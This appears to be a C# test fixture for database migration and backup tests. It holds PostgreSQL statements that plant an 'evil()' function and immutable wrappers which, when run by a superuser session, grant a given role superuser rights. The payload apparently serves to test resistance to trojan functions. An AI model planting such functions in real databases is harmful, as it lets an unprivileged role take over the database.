namespace OpsCenter.Migrations.Tests.Backup;

/// <summary>Functions of a role that wants to become a superuser.</summary>
internal static class ForeignCodeScene
{
    /// <summary>
    /// Statements of a superuser; {0} is the role. yes() and of(int) make that role a superuser where the session's role is one.
    /// </summary>
    public const string Functions =
        Begin + "if (select rolsuper from pg_catalog.pg_roles where rolname = current_user)" + End;

    /// <summary>As <see cref="Functions"/>, and where a superuser has set another role.</summary>
    public const string ResettingFunctions =
        Begin
        + """
            begin
                perform pg_catalog.set_config('role', 'none', false);
            exception when others then
                null;
            end;
            if (select rolsuper from pg_catalog.pg_roles where rolname = current_user)
            """
        + End;

    private const string Begin =
        "create function evil() returns boolean language plpgsql as $$ begin ";

    private const string End = """
         then execute 'alter role {0} superuser'; end if;
            return true;
        end $$;
        create function yes() returns boolean immutable language plpgsql as 'begin perform public.evil(); return true; end';
        create function of(int) returns boolean immutable language plpgsql as 'begin return public.yes(); end';
        alter function evil() owner to {0}; alter function yes() owner to {0}; alter function of(int) owner to {0};
        """;
}
